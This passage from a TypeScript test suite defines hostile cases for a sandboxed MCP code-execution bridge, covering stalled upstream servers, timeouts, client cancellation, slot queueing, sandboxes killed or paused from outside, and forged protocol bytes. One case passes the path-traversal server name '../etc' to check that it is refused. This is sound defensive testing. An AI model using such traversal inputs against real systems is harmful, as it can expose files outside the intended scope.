    name: 'a server that answers with something that is no tool result',
    category: 'upstream',
    servers: ['noisy'],
    code: 'import mcp\ntry:\n    print(await mcp_noisy.bad_result())\nexcept mcp.ToolError as error:\n    print(error.code)',
    expect: { status: 'ok', stdout: 'TOOL_ERROR\n' },
  },
  {
    name: 'a run that times out inside an upstream call cancels that call upstream',
    category: 'upstream',
    drive: async (context) => {
      const stats = 'import json\nprint(json.dumps(await mcp_soak.stats()))';
      const before = await context.run({ servers: ['soak'], code: stats });
      // The deadline covers taking a sandbox too: 5 s, so the call is surely made before it passes.
      const hung = await context.run({ servers: ['soak'], code: 'await mcp_soak.hang()', timeout: 5 });
      const after = await context.run({ servers: ['soak'], code: stats });
      return {
        ...hung,
        sandboxes: [...before.sandboxes, ...hung.sandboxes, ...after.sandboxes],
        others: [before, after],
      };
    },
    expect: {
      status: 'timeout',
      check: (run) => {
        const [before, after] = (run.others ?? []).map((other) =>
          JSON.parse(other.outcome?.stdout ?? 'null'),
        );
        expect(after.pendingHangs).toBe(0);
        expect(after.hangsCancelled).toBe(before.hangsCancelled + 1);
      },
    },
  },
  {
    name: 'a server that never finishes its handshake: the run times out waiting for it',
    category: 'upstream',
    drive: async (context) => {
      // The server dies, and its next start hangs in the handshake (a server stuck at start-up).
      context.setStall(true);
      const exited = await context.run({
        servers: ['stall'],
        code: 'import mcp\ntry:\n    await mcp_stall.exit()\nexcept mcp.ToolError as error:\n    print(error.code)',
      });
      const stalled = await context.run({ servers: ['stall'], code: 'print("not reached")', timeout: 2 });
      return { ...stalled, sandboxes: exited.sandboxes, others: [exited] };
    },
    expect: {
      status: 'timeout',
      stdout: '',
      check: (run) =>
        expect(run.others?.[0]?.outcome).toMatchObject({ status: 'ok', stdout: 'UPSTREAM_UNAVAILABLE\n' }),
    },
  },
  {
    name: 'search_tool_docs while a server hangs in its handshake lists that server as unavailable',
    category: 'upstream',
    timeout: 10,
    drive: async (context) => {
      try {
        return await context.run({
          code: 'import mcp.runtime as rt\nanswer = await rt.search_tool_docs("fine", limit=3)\nprint("answered")',
          timeout: 10,
        });
      } finally {
        // Later servers start normally again (the hung start ends at the bridge's connect timeout).
        context.setStall(false);
      }
    },
    expect: {
      status: 'ok',
      stdout: 'answered\n',
      check: (run) => expect(run.outcome?.stderr).toMatch(/server 'stall' skipped: still starting after 5 s/),
    },
  },
];

// ---------------------------------------------------------------------------------------------- bridge

const LONG_ANNOUNCED = (token: string, context: CaseContext) =>
  `${announce(token, context)}import asyncio\nawait asyncio.sleep(60)\nprint("not reached")`;

const BRIDGE: HostileCase[] = [
  {
    name: 'the client cancels a run mid-way: its sandbox is killed at once',
    category: 'bridge',
    drive: async (context) => {
      const token = unique('cancel');
      const controller = new AbortController();
      const running = context.run(
        { servers: ['soak'], code: LONG_ANNOUNCED(token, context), timeout: 60 },
        { signal: controller.signal },
      );
      const sandbox = await context.announced(token);
      controller.abort();
      return { ...(await running), sandboxes: sandbox ? [sandbox] : [] };
    },
    expect: { status: 'rejected', error: /abort/i },
  },
  {
    name: "the client's request times out: its sandbox is killed",
    category: 'bridge',
    drive: async (context) => {
      const token = unique('client-timeout');
      const running = context.run(
        { servers: ['soak'], code: LONG_ANNOUNCED(token, context), timeout: 60 },
        { requestTimeoutMs: 8000 },
      );
      // The client gives up by itself; the program may not even have started by then on a busy machine.
      const sandbox = await Promise.race([context.announced(token), running.then(() => undefined)]);
      return { ...(await running), sandboxes: sandbox ? [sandbox] : [] };
    },
    expect: { status: 'rejected', error: /Request timed out/ },
  },
  {
    name: 'a run beyond MCP_BRIDGE_MAX_CONCURRENT_RUNS waits its turn, its timeout running',
    category: 'bridge',
    drive: async (context) => {
      // Two runs hold both slots for MCP_BRIDGE_CALL_TIMEOUT (5 s); the third's 1 s ends while it waits.
      const holding =
        'import mcp\ntry:\n    await mcp_hanging.hang()\nexcept mcp.ToolError:\n    print("held")';
      const first = context.run({ servers: ['hanging'], code: holding });
      const second = context.run({ servers: ['hanging'], code: holding });
      const queued = context.run({ code: 'print("ran")', timeout: 1 });
      const [one, two, three] = await Promise.all([first, second, queued]);
      return { ...three, sandboxes: [...one.sandboxes, ...two.sandboxes], others: [one, two] };
    },
    expect: {
      status: 'timeout',
      stdout: '',
      check: (run) => {
        for (const held of run.others ?? []) {
          expect(held.outcome).toMatchObject({ status: 'ok', stdout: 'held\n' });
        }
        // The queued run never got a sandbox, so it could not report one.
        expect(run.outcome?.error).toMatch(/^Timed out after 1 s/);
      },
    },
    anonymous: true,
  },
  {
    name: 'the client cancels a run while it waits for a slot',
    category: 'bridge',
    drive: async (context) => {
      const holding =
        'import mcp\ntry:\n    await mcp_hanging.hang()\nexcept mcp.ToolError:\n    print("held")';
      const first = context.run({ servers: ['hanging'], code: holding });
      const second = context.run({ servers: ['hanging'], code: holding });
      const controller = new AbortController();
      const queued = context.run({ code: 'print("ran")' }, { signal: controller.signal });
      controller.abort();
      const [one, two, three] = await Promise.all([first, second, queued]);
      return { ...three, sandboxes: [...one.sandboxes, ...two.sandboxes], others: [one, two] };
    },
    expect: {
      status: 'rejected',
      error: /abort/i,
      check: (run) => {
        for (const held of run.others ?? []) {
          expect(held.outcome).toMatchObject({ status: 'ok', stdout: 'held\n' });
        }
      },
    },
  },
  {
    name: 'its sandbox is killed from outside mid-run',
    category: 'bridge',
    drive: async (context) => {
      const token = unique('killed');
      const running = context.run({ servers: ['soak'], code: LONG_ANNOUNCED(token, context), timeout: 60 });
      const sandbox = await context.announced(token);
      if (sandbox) context.killSandbox(sandbox);
      return running;
    },
    expect: (context) => ({ status: 'killed', error: memoryHint(context), stdout: '' }),
  },
  {
    name: 'the engine client of its container is killed: the container is still removed',
    category: 'bridge',
    backends: CONTAINERS,
    drive: async (context) => {
      const token = unique('client-killed');
      const running = context.run({ servers: ['soak'], code: LONG_ANNOUNCED(token, context), timeout: 60 });
      const sandbox = await context.announced(token);
      // The engine's event stream can lag behind the program on a loaded machine: wait for it.
      let client: number | undefined;
      for (let waited = 0; sandbox && !client && waited < 30_000; waited += 100) {
        client = context.containerClientOf(sandbox);
        if (!client) await new Promise((resolve) => setTimeout(resolve, 100));
      }
      if (!client) throw new Error(`no engine client for container ${sandbox}`);
      process.kill(client, 'SIGKILL');
      return running;
    },
    expect: { status: 'killed' },
  },
  {
    name: 'its container is paused from outside: the timeout still ends it',
    category: 'bridge',
    backends: CONTAINERS,
    drive: async (context) => {
      const token = unique('paused');
      const running = context.run({ servers: ['soak'], code: LONG_ANNOUNCED(token, context), timeout: 4 });
      const sandbox = await context.announced(token);
      if (sandbox) context.engine(['pause', sandbox]);
      return running;
    },
    expect: { status: 'timeout' },
  },
  {
    name: 'its container is removed from outside mid-run',
    category: 'bridge',
    backends: CONTAINERS,
    drive: async (context) => {
      const token = unique('removed');
      const running = context.run({ servers: ['soak'], code: LONG_ANNOUNCED(token, context), timeout: 60 });
      const sandbox = await context.announced(token);
      if (sandbox) context.engine(['rm', '-f', '-t', '0', sandbox]);
      return running;
    },
    expect: { status: 'killed' },
  },
  {
    name: 'its worker is stopped (SIGSTOP) from outside: the timeout still ends it',
    category: 'bridge',
    backends: EMBEDDED,
    drive: async (context) => {
      const token = unique('stopped');
      const running = context.run({ servers: ['soak'], code: LONG_ANNOUNCED(token, context), timeout: 4 });
      const sandbox = await context.announced(token);
      if (sandbox) context.killSandbox(sandbox, 'SIGSTOP');
      return running;
    },
    expect: { status: 'timeout' },
  },
  {
    name: 'asks for a server that does not exist: refused before any sandbox',
    category: 'bridge',
    servers: ['no-such-server', '../etc'],
    code: 'print("not reached")',
    expect: { status: 'refused', error: /no-such-server/ },
  },
  {
    name: 'a run that breaks the protocol does not disturb a run beside it',
    category: 'bridge',
    drive: async (context) => {
      const breaking = context.run({
        code: `${forge(context)}\nimport time\ntime.sleep(0.5)\nforge(b"garbage\\n")\ntime.sleep(5)`,
      });
      const bystander = context.run({
        code: 'import time\nfor i in range(10):\n    print(i)\n    time.sleep(0.1)',
      });
      const [broken, stood] = await Promise.all([breaking, bystander]);
      return { ...broken, sandboxes: [...broken.sandboxes, ...stood.sandboxes], others: [stood] };
    },
    expect: {
      status: 'protocol_error',
      check: (run) => {
        expect(run.others?.[0]?.outcome).toMatchObject({
          status: 'ok',
          stdout: '0\n1\n2\n3\n4\n5\n6\n7\n8\n9\n',
        });
      },
    },
  },
];

/** Every case, in the order each backend runs them. */
export const HOSTILE_CASES: readonly HostileCase[] = [
  ...ESCAPE,
  ...NETWORK,
  ...RESOURCES,
  ...PROTOCOL,
  ...HOST_OPS,
  ...UPSTREAM,
  ...BRIDGE,
];
